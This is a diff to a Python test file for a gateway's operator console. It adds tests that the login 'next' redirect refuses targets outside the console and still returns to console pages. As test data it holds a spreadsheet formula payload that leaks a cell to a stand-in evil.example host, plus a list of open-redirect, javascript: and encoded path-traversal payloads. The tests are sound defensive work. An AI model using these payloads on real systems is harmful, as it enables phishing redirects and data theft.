@@ -16,7 +16,7 @@ from sqlalchemy import select
 from gateway.app import create_app
 from gateway.models import CallRecord
 from tests.gateway.test_central_events import SECRET, push
-from tests.gateway.test_console import KEY, TOKEN, add, login
+from tests.gateway.test_console import KEY, PASSWORD, TOKEN, add, login, token
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik untuk detail")'
 
@@ -123,3 +123,59 @@ def test_a_phone_search_never_finds_an_anonymous_call(console):
     api.post("/api/v1/calls", json=_call("p-1", "public", "Sampah pak."), headers=KEY)
     found = client.get("/operator/complaints", query_string={"q": "081299998888"}).text
     assert len(re.findall(r"/operator/review/\d+", found)) == 1
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "https://evil.example/operator/",
+        "//evil.example/operator/",
+        "///evil.example/operator/",
+        "/\\evil.example/operator/",
+        "\\\\evil.example/operator/",
+        "/operator/\\evil.example",
+        "/operator/\\\\evil.example",
+        "javascript:alert(1)//operator/",
+        "http:/operator/review",
+        "/operator/../media/token",
+        "/operator/./../api/v1/complaints",
+        "/operator/%2e%2e/media/token",
+        "/operator/%2E%2E/media/token",
+        "/operator/.%2e/media/token",
+        "/operator/%252e%252e/media/token",
+        "/operator/..%2fmedia",
+        "/operator/%2f%2fevil.example",
+        "/operator//evil.example",
+        "/operator/%5cevil.example",
+        "/operator/\t/evil.example",
+        "/operator/%09/evil.example",
+        "/operator/\n",
+        " /operator/review",
+        "/operator",
+        "/operatorx/",
+        "/media/token",
+        "",
+    ],
+)
+def test_login_refuses_a_next_outside_the_console(console, target):
+    client = console.test_client()
+    response = client.post(
+        "/operator/login",
+        query_string={"next": target},
+        data={"username": "ani", "password": PASSWORD, "csrf_token": token(client)},
+    )
+    assert response.status_code == 302
+    assert response.headers["Location"] == "/operator/calls/new", target
+
+
+@pytest.mark.parametrize(
+    "target", ["/operator/review", "/operator/complaints?q=LPR-7K3M9Q2X", "/operator/review/3"]
+)
+def test_login_still_returns_to_a_console_page(console, target):
+    client = console.test_client()
+    response = client.post(
+        "/operator/login",
+        query_string={"next": target},
+        data={"username": "ani", "password": PASSWORD, "csrf_token": token(client)},
+    )
+    assert response.headers["Location"] == target
